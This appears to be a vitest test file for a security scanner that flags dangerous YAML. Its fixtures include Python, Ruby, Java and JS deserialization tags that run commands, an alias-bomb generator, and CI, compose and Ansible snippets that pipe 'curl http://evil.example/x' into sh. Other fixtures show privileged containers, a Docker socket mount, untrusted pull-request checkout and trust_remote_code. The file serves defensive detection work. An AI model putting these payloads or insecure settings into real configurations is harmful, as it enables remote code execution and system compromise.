import { describe, expect, test } from 'vitest'
import { scanBytes } from '../../../fixtures/scan-bytes'

const scan = (text: string, name = 'config.yaml') => scanBytes(Buffer.from(text), { name })
const rulesOf = (text: string, name?: string) =>
  scan(text, name).findings.map(({ ruleId }) => ruleId)

describe('YAML whose tags call something', () => {
  test.each([
    "a: !!python/object/apply:os.system ['echo harmless']",
    '!!python/object/new:subprocess.Popen\nargs: [[echo, harmless]]',
    "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['echo harmless']",
    "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['echo harmless']",
    '- [{a: !!python/name:os.system }]',
    '? !!python/object/apply:os.system [echo harmless]\n: 1',
    'a: 1\n---\nb: !!python/object/apply:subprocess.run [echo]',
  ])('is found to run a command: %s', (text) => {
    const { findings, verdict } = scan(text)
    expect(findings.map(({ ruleId }) => ruleId)).toContain('config.yaml-command')
    expect(verdict).toBe('malicious')
  })

  test('is found by its content under any name', () => {
    expect(rulesOf('a: !!python/object/apply:os.system [echo]', 'notes.txt')).toContain(
      'config.yaml-command',
    )
  })

  test('is found although it cannot be parsed', () => {
    const broken = scan('a: [1\nb: !!python/object/apply:os.system [echo]\n  c: "')
    expect(broken.findings.map(({ ruleId }) => ruleId)).toContain('config.yaml-command')
    expect(broken.status).toBe('inconclusive')
  })

  test.each([
    ['config.yaml-gadget', '--- !ruby/object:Gem::Requirement\nrequirements: []'],
    ['config.yaml-gadget', 'a: !!javax.script.ScriptEngineManager [ ]'],
    ['config.yaml-gadget', 'a: !!js/function "function () {}"'],
    ['config.yaml-object', 'a: !!python/object:some.unknown.Thing {}'],
    ['config.yaml-data-object', 'a: !!python/object:argparse.Namespace {lr: 1}'],
  ])('is judged %s for %s', (ruleId, text) => {
    expect(rulesOf(text)).toContain(ruleId)
  })
})

describe('YAML that is only data', () => {
  test.each([
    'a: !Ref Bucket\nb: !Sub "${x}"',
    'a: !!python/tuple [1, 2]',
    'a: "!!python/object/apply:os.system"\n# !!python/object/apply:os.system',
    'base: &base {a: 1}\nother:\n  <<: *base',
    'on: push\njobs:\n  test:\n    steps:\n      - run: npm ci && npm test',
    'dependencies:\n  - python=3.12\n  - pip:\n    - git+https://github.com/huggingface/peft',
  ])('is clean: %s', (text) => {
    const { findings, status } = scan(text)
    expect(findings.filter(({ severity }) => severity !== 'info')).toEqual([])
    expect(status).toBe('complete')
  })

  test('is text where it only looks like YAML', () => {
    expect(scan('---\nName: a\n\tTab: [\n', 'notes')).toMatchObject({
      format: 'text',
      status: 'complete',
    })
  })
})

describe('YAML that is hostile to its reader', () => {
  test('is a bomb when its aliases grow beyond any memory', () => {
    const levels = Array.from({ length: 12 }, (_, level) =>
      level === 0
        ? 'a0: &a0 [x, x]'
        : `a${level}: &a${level} [${`*a${level - 1}, `.repeat(9)}*a${level - 1}]`,
    )
    expect(rulesOf(levels.join('\n'))).toContain('config.alias-bomb')
  })

  test.each([
    '['.repeat(100_000),
    '{a: '.repeat(50_000),
    '- '.repeat(50_000),
    'a:\n '.repeat(2000),
  ])('ends without being called clean when it is nested without end', (text) => {
    expect(scan(text).verdict).not.toBe('malicious')
  })
})

describe('a configuration in YAML', () => {
  test.each([
    [
      'code.download-and-run',
      'jobs:\n  a:\n    steps:\n      - run: |\n          curl http://evil.example/x | sh\n',
    ],
    [
      'code.download-and-run',
      'services:\n  a:\n    command: ["sh", "-c", "curl http://evil.example/x | sh"]\n',
    ],
    ['code.download-and-run', 'test:\n  script:\n    - curl http://evil.example/x | sh\n'],
    [
      'code.download-and-run',
      '- hosts: all\n  tasks:\n    - shell: curl http://evil.example/x | sh\n',
    ],
    ['code.dependency-source', 'dependencies:\n  - pip:\n    - http://evil.example/a.tar.gz\n'],
    ['config.container-privileged', 'services:\n  a:\n    privileged: true\n'],
    [
      'config.docker-socket',
      'services:\n  a:\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n',
    ],
    [
      'config.untrusted-checkout',
      'on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n',
    ],
    ['content.instantiation', 'model:\n  _target_: os.system\n  command: echo\n'],
    ['config.trust-remote-code', 'trust_remote_code: true\n'],
  ])('is read for %s', (ruleId, text) => {
    expect(rulesOf(text)).toContain(ruleId)
  })

  test('has its chat template read as code', () => {
    expect(scan('chat_template: "{{ x.__class__ }}"\n').names('template')).toContain(
      'attribute.__class__',
    )
  })
})
